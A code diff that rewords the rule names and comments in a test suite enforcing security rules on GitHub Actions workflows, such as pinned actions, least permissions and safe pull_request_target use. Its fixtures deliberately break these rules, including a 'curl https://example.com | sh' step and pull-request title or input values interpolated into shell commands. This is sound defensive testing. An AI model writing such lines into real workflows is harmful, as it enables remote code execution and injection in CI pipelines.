@@ -14,7 +14,7 @@ const { scripts } = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8'))
 type Rule = keyof typeof workflowRules;
 const rules = Object.keys(workflowRules) as Rule[];
 
-/** What a rule says against the text of a workflow. */
+/** The parts of a workflow's text that break a rule. */
 function against(rule: Rule, text: string): unknown[] {
   return workflowRules[rule]({ ...workflowOf(text), text, scripts: new Set(Object.keys(scripts)) });
 }
@@ -25,13 +25,13 @@ describe.each(names)('%s', (name) => {
   });
 });
 
-/** What breaks each rule: in which workflow, and what stands there in place of what. */
+/** A change that breaks each rule: the workflow, the text to replace, and its replacement. */
 const breaches: Record<Rule, readonly [name: string, from: string | RegExp, to: string][]> = {
   'pins every action to a full commit, with the version in a comment': [
     ['ci.yml', /@[0-9a-f]{40} # v[\d.]+/, '@v1'],
     ['ci.yml', / # v[\d.]+/, ''],
   ],
-  'runs one command a step, with nothing put into it but a quoted variable': [
+  'runs one command per step, with only quoted variables in it': [
     ['release.yml', 'npm run release -- --public', 'npm run release -- --date ${{ inputs.date }}'],
     ['release.yml', '"refs/tags/$TAG" ^origin/main', '"refs/tags/${{ inputs.date }}"'],
     ['weekly.yml', 'npm ci', 'npm ci && curl https://example.com | sh'],
@@ -44,11 +44,11 @@ const breaches: Record<Rule, readonly [name: string, from: string | RegExp, to: 
     ),
     ['pages.yml', 'fetch-depth: 0', 'fetch-depth: 1'],
   ],
-  'keeps no credentials in a checkout, but the key in the one that pushes': [
+  'keeps no credentials in a checkout, except the deploy key in the job that pushes': [
     ['ci.yml', 'persist-credentials: false', 'persist-credentials: true'],
     ['weekly.yml', / +with:\n +persist-credentials: false\n/, ''],
   ],
-  'gives no permission by default, and each job its own with a reason': [
+  'gives no permission by default, and states a reason for each permission of a job': [
     ['ci.yml', 'permissions: {}\n', ''],
     ['contribution.yml', / # to set the commit.*/, ''],
     ['ci.yml', /permissions:\n.*contents: read.*\n/, 'permissions: write-all\n'],
@@ -57,18 +57,18 @@ const breaches: Record<Rule, readonly [name: string, from: string | RegExp, to: 
     ['pages.yml', / +timeout-minutes:.*\n/, ''],
     ['pages.yml', /concurrency:.*\n/, ''],
   ],
-  'takes nothing but the default branch on pull_request_target': [
+  'uses only the default branch on pull_request_target': [
     ['contribution.yml', 'ref: main', 'ref: ${{ github.event.pull_request.head.sha }}'],
     ['contribution.yml', / +ref: main.*\n/, ''],
     ['contribution.yml', 'env:\n', 'env:\n          TITLE: ${{ github.event.pull_request.title }}\n'],
     ['contribution.yml', 'env:\n', 'env:\n          KEY: ${{ secrets.KEY }}\n'],
     ['contribution.yml', 'on: #', 'on:\n  issue_comment:\n #'],
   ],
-  'may write nothing and has no secret where what runs is that of a pull request': [
+  'has no write permission and no secrets if it runs code from a pull request': [
     ['ci.yml', 'contents: read', 'contents: write'],
     ['release.yml', 'on:\n', 'on:\n  pull_request:\n'],
   ],
-  'has no package beside a key or an identity, and only those of commands beside other rights': [
+  'runs no npm code in jobs with a key or signing rights, and installs no workspaces in jobs that may write': [
     ['release.yml', '- run: git fetch', '- uses: ./.github/actions/setup\n      - run: git fetch'],
     ['publish.yml', '- uses: actions/attest', '- run: npm run clients\n      - uses: actions/attest'],
     ['pages.yml', '- id: deployment', '- run: npm run verify\n      - id: deployment'],
@@ -105,7 +105,7 @@ describe("GitHub's own language service", () => {
   });
 });
 
-/** What each command and action asks of GitHub: a job has the permissions of what it does, and no other. */
+/** The permissions that each command and action needs. A job must have exactly the permissions of its steps. */
 const NEEDS: readonly (readonly [what: string, ...permissions: string[]])[] = [
   ['actions/checkout@', 'contents: read'],
   ['npm run github -- judge', 'contents: read', 'pull-requests: write', 'statuses: write'],
